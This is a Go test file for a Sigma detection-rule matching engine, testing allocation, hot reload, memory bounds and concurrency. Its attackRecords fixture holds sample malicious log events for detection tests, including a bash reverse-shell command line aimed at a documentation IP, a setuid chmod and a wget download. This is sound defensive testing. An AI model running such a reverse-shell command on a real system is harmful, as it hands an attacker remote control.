package sigma

import (
	"fmt"
	"io/fs"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// sources is a record with a log source of its own.
type sourced struct {
	flat
	source Logsource
}

func (s sourced) Logsource() Logsource { return s.source }

func TestAMissAllocatesNothing(t *testing.T) {
	set, _ := Load(os.DirFS(corpus(t)))
	var rec Record = sourced{
		flat{"Image": "/usr/bin/ls", "CommandLine": "ls -la /home/ü", "ParentImage": "/usr/bin/bash", "User": "u"},
		Logsource{"linux", "process_creation", ""},
	}
	dst := make([]*Rule, 0, 8)
	if hits := set.Match(rec, dst); len(hits) != 0 {
		t.Fatalf("not a miss: %v", keys(hits))
	}
	if n := testing.AllocsPerRun(200, func() { dst = set.Match(rec, dst[:0]) }); n != 0 {
		t.Errorf("%v allocations on a miss", n)
	}
}

// TestAMissAllocatesNothingAtAnySize : nor with thousands of rules, of which
// some are evaluated in vain.
func TestAMissAllocatesNothingAtAnySize(t *testing.T) {
	set, _ := Load(files(syntheticRules(3000)...))
	for _, rec := range benignRecords() {
		dst := set.Match(rec, nil)[:0]
		if n := testing.AllocsPerRun(20, func() { dst = set.Match(rec, dst[:0]) }); n != 0 {
			t.Errorf("%v: %v allocations", rec, n)
		}
	}
}

// TestReloadMissesNothing swaps sets while events are matched: every event is
// judged once, whole, by the one or by the other.
func TestReloadMissesNothing(t *testing.T) {
	text := func(id, value string) string {
		return "id: " + id + "\n" + rule("s:\n  a|contains: "+value+"\ncondition: s")
	}
	var current atomic.Pointer[Set]
	load := func(own string) { current.Store(mustLoad(t, text("both", "x"), text(own, "y"))) }
	load("old")
	var wg sync.WaitGroup
	var judged [2]atomic.Int64
	stop := make(chan struct{})
	for range 2 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				switch got := fmt.Sprint(keys(current.Load().Match(flat{"a": "xy"}, nil))); got {
				case "[both old]":
					judged[0].Add(1)
				case "[both new]":
					judged[1].Add(1)
				default:
					t.Errorf("judged by %s", got)
					return
				}
			}
		}()
	}
	deadline := time.Now().Add(time.Minute)
	for swaps := 0; swaps < 200 || (judged[0].Load() == 0 || judged[1].Load() == 0) && time.Now().Before(deadline); swaps++ {
		load([]string{"new", "old"}[swaps%2])
	}
	close(stop)
	wg.Wait()
	if judged[0].Load() == 0 || judged[1].Load() == 0 {
		t.Errorf("judged by the old set %d, by the new %d", judged[0].Load(), judged[1].Load())
	}
}

// TestMemoryIsBounded : a set takes no rules beyond its bound, says so, and
// goes on with those that it has.
func TestMemoryIsBounded(t *testing.T) {
	var texts []string
	value := strings.Repeat("v", 598)
	for i := range 20 {
		texts = append(texts, rule(fmt.Sprintf("s:\n  a: '%02d%s'\ncondition: s", i, value)))
	}
	set, report := load(7800, []fs.FS{files(texts...)})
	if len(report.Unsupported) != 7 || !strings.Contains(report.Unsupported[0].Reason, "exceeds") {
		t.Errorf("%d loaded, %.300v", report.Loaded, report.Unsupported)
	}
	stats := set.Stats()
	if stats.Bytes == 0 || stats.Bytes > 100*7800 {
		t.Errorf("%d bytes", stats.Bytes)
	}
	if len(set.Match(flat{"a": "00" + value}, nil)) != 1 {
		t.Error("the first rule is not in force")
	}
}

func TestRulesWaitForTheirLiterals(t *testing.T) {
	set, _ := Load(os.DirFS(corpus(t)))
	stats := set.Stats()
	if stats.Always*20 > stats.Rules {
		t.Errorf("%d of %d rules are evaluated for every record", stats.Always, stats.Rules)
	}
	if stats.Literals < 1000 || stats.States < stats.Literals || stats.Bytes == 0 {
		t.Errorf("stats %+v", stats)
	}
}

func TestCompiledCorpusAgreesWithTheOracle(t *testing.T) {
	set, _ := Load(os.DirFS(corpus(t)))
	for _, rec := range attackRecords {
		got, want := keys(set.Match(rec, nil)), keys(oracle(set, rec))
		if fmt.Sprint(got) != fmt.Sprint(want) || len(want) == 0 {
			t.Errorf("%v:\nmatched %v\nwant    %v", rec, got, want)
		}
	}
}

// attackRecords match public rules.
var attackRecords = []Record{
	sourced{flat{"Image": "/usr/bin/base64", "CommandLine": "base64 -d x"}, Logsource{"linux", "process_creation", ""}},
	sourced{flat{"Image": "/bin/bash", "CommandLine": "bash -i >& /dev/tcp/203.0.113.9/80 0>&1"}, Logsource{"linux", "process_creation", ""}},
	sourced{flat{"Image": "/usr/bin/crontab", "CommandLine": "crontab -l"}, Logsource{"linux", "process_creation", ""}},
	sourced{flat{"Image": "/usr/bin/wget", "TargetFilename": "/tmp/x"}, Logsource{"linux", "file_event", ""}},
	sourced{flat{"Image": "/bin/bash", "DestinationIp": "203.0.113.9"}, Logsource{"linux", "network_connection", ""}},
	sourced{flat{"type": "EXECVE", "a0": "chmod", "a1": "+s", "a2": "x"}, Logsource{"linux", "", "auditd"}},
}

func TestConcurrentMatches(t *testing.T) {
	set, _ := Load(os.DirFS(corpus(t)))
	var want []int
	for _, rec := range attackRecords {
		want = append(want, len(oracle(set, rec)))
	}
	var wg sync.WaitGroup
	for range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 2000 {
				n := i % len(attackRecords)
				if got := len(set.Match(attackRecords[n], nil)); got != want[n] {
					t.Errorf("%v: %d matches, want %d", attackRecords[n], got, want[n])
				}
			}
		}()
	}
	wg.Wait()
}

func TestForeignLogsourcesStayBounded(t *testing.T) {
	set := one(t, rule("s:\n  a: b\ncondition: s"))
	for i := range 10 * maxChosen {
		set.Match(sourced{flat{"a": "b"}, Logsource{Product: fmt.Sprint(i)}}, nil)
	}
	if n := len(*set.chosen.Load()); n > maxChosen {
		t.Errorf("%d log sources remembered", n)
	}
	if len(set.Match(flat{"a": "b"}, nil)) != 1 {
		t.Error("no match once the memory is full")
	}
}
